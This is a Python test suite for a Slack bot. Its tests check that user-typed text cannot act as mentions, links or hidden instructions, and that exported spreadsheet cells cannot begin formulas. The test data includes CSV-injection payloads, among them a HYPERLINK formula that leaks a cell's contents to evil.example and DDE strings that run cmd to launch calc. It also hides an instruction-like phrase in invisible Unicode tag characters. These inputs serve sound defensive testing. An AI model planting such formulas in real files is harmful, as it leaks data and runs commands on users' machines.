"""Nothing that people type acts: no mention, link, broadcast, hidden or turned text in Slack, no formula in a sheet."""

from __future__ import annotations

import ast
import csv
import io
import re
import sys
import unicodedata

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app import ROOT
from bot import messages
from bot.messages import privacy
from bot.messages.text import Post, clean, plain, section
from bot.offline.output import safe
from sandbox.blocks import message_problems, view_problems, walk
from tests.cast import NOW, ada, bruno, rehearsed

ENTITY = re.compile(r"&(?!(amp|lt|gt);)")
CALLS = {"chat_postMessage", "chat_update", "chat_postEphemeral"}
BLANK = "\u034f\u115f\u1160\u17b4\u17b5\u2800\u3164\uffa0"
SCOTLAND = "\U0001f3f4\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f"
anything = st.text(st.characters() | st.sampled_from("<>&@#!|=+-\t\r\n\u202e\u200b\U000e0041'\""), max_size=60)


def misleads(character: str) -> bool:
    """Say whether a character shows nothing and shapes no other, by Unicode's own categories."""
    if character in "\u200c\u200d\n":
        return False
    return character in BLANK or unicodedata.category(character) in {"Cc", "Cf", "Cs", "Zl", "Zp"}


def test_of_all_of_unicode_nothing_invisible_is_left() -> None:
    """Each character between two letters, a few thousand at a time."""
    for first in range(0, sys.maxunicode + 1, 4096):
        typed = "".join(f"a{chr(one)}b" for one in range(first, first + 4096))
        for lines in (False, True):
            left = {*clean(typed, lines=lines)}
            assert not [f"{ord(one):x}" for one in left if misleads(one)]
        said = plain(typed)
        assert not re.search("[<>]", said)
        assert not ENTITY.search(said)


def test_flags_stay_and_words_that_hide_in_tags_go() -> None:
    hidden = "".join(chr(0xE0000 + ord(one)) for one in "ignore all of it")
    assert clean(f"Ada {SCOTLAND}{hidden}") == f"Ada {SCOTLAND}"
    assert clean("👩‍👩‍👧 क्ष می‌خواهم") == "👩‍👩‍👧 क्ष می‌خواهم"


@settings(max_examples=300, deadline=None)
@given(anything)
def test_what_is_typed_mentions_nobody_and_links_nowhere(typed: str) -> None:
    said = plain(typed, lines=True)
    assert not re.search(r"[<>]", said)
    assert not ENTITY.search(said)
    assert not [one for one in said if misleads(one)]
    assert section(said)["text"]["verbatim"] is True


@settings(max_examples=60, deadline=None)
@given(anything, anything)
def test_ones_own_data_is_shown_and_acts_no_more_than_other_words(word: str, other: str) -> None:
    document = {"participant": [{"name": word, "hope": other, "offers": [word]}], "named_by_others": {"a.b": 2}}
    post = privacy.kept("en", document)
    assert not message_problems(post.blocks)
    shown = privacy.all_of_it("en", document)
    view = {"type": "modal", "title": {"type": "plain_text", "text": "x"}, "blocks": shown.blocks}
    assert not view_problems(view, "modal")
    texts = [found for _, found in walk(shown.blocks) if found.get("type") in {"plain_text", "mrkdwn"}]
    assert [found["type"] for found in texts] == ["mrkdwn", *["plain_text"] * (len(texts) - 1)]
    assert not [one for found in texts for one in found["text"] if misleads(one)]


@settings(max_examples=40, deadline=None)
@given(anything, anything)
def test_the_plan_of_what_will_be_sent_holds_names_that_do_not_act(one: str, other: str) -> None:
    pair = {"mentor": 1, "mentee": 2, "score": 0.5, "reasons": [], "starts": [NOW.isoformat()]}
    sent = [{"kind": kind, "number": 1, "at": NOW} for kind in ("introduction", "reminder", "session", "checkin")]
    people = {1: ada(name=one), 2: bruno(name=other)}
    post = messages.sends(
        "en", round_=rehearsed([pair], []), people=people, schedule=[(pair, sent)], zone="Europe/Madrid"
    )
    assert not message_problems(post.blocks)
    assert "<" not in re.sub(r"<@U0(ADA0001|BRUNO01)>", "", post.text)
    assert not [character for character in post.text if misleads(character)]


def test_every_message_with_words_of_people_is_tried_with_any_words() -> None:
    """Those of tests/test_messages.py and of this file; a new message has to come into one of them."""
    tried = "".join(
        (ROOT / "tests" / name).read_text("utf-8") for name in ("test_messages.py", "said.py", "test_security_words.py")
    )
    drawn = set()
    for path in (ROOT / "bot" / "messages").glob("*.py"):
        for node in ast.parse(path.read_text("utf-8")).body:
            if isinstance(node, ast.FunctionDef) and not node.name.startswith("_") and node.returns is not None:
                drawn |= {node.name} if ast.unparse(node.returns) == "Post" else set()
    untried = {name for name in drawn if not re.search(rf"\b{name}\(", tried)}
    assert untried == {"post", "erased", "coordinators"}  # the others show no words of anybody


def test_every_post_asks_slack_to_read_nothing_into_it() -> None:
    found = 0
    for path in [*ROOT.glob("bot/**/*.py"), *ROOT.glob("handlers/*.py"), ROOT / "app.py"]:
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.func.attr in CALLS:
                given_ = {one.arg: ast.unparse(one.value) for one in node.keywords}
                wanted = {"parse": "'none'", "link_names": "False"}
                if node.func.attr == "chat_postMessage":
                    wanted |= {"unfurl_links": "False", "unfurl_media": "False"}
                assert wanted.items() <= given_.items(), f"{path}:{node.lineno}"
                found += 1
    assert found >= 2


FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    "\u00a0=1",
    "\u3000@x",
    "\u200b=1",
    "\ufeff+1",
    "＝1",
    "＋1",
    "－1",
    "＠x",
    " ＝1",
    "﹦1",
    "\x00=1",
    '=HYPERLINK("http://evil.example?"&A1)',
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!D2",
]


@pytest.mark.parametrize("cell", FORMULAS, ids=ascii)
def test_no_spreadsheet_takes_a_cell_for_a_formula(cell: str) -> None:
    assert safe(cell) == f"'{cell}"


@settings(max_examples=300, deadline=None)
@given(anything)
def test_a_cell_keeps_its_words_and_begins_no_formula(cell: str) -> None:
    kept = safe(cell)
    assert kept.removeprefix("'") == cell.removeprefix("'")
    begins = unicodedata.normalize("NFKC", re.sub(r"^[\s\u200b-\u200f\ufeff]+", "", kept))[:1]
    assert begins not in {*"=+-@"}
    written = io.StringIO()
    csv.writer(written, quoting=csv.QUOTE_ALL).writerow([kept, "next"])
    assert written.getvalue().startswith('"')


def test_a_name_that_shows_nothing_is_a_mention() -> None:
    for blank in ("", " ", BLANK, "\u202e\u200b", "\U000e0041"):
        assert messages.text.name(ada(name=blank)) == "<@U0ADA0001>"
    assert Post("", []).blocks == []
